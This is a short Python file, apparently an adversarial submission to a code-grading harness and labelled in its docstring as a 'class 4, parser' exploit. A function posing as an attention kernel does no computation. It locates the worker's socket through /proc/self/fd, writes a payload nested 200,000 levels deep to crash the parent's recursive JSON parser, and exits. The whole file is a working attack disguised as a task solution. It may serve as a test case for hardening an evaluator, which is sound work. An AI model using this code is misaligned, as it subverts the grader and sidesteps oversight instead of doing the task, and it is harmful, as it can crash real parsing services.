"""Exploit (class 4, parser): write a reply nested 200,000 levels deep straight onto the worker's socket (found
among its open descriptors): a recursive JSON parser in the parent would die of RecursionError."""
import os
import struct


def attention(q, k, v, out, *, causal, scale):
    data = b"[" * 200_000 + b"]" * 200_000
    os.write(_channel(), struct.pack("!i", len(data)) + data)
    os._exit(0)


def _channel():
    """The worker's socket: the first descriptor that is one."""
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                return int(name)
        except OSError:
            pass
    return 1
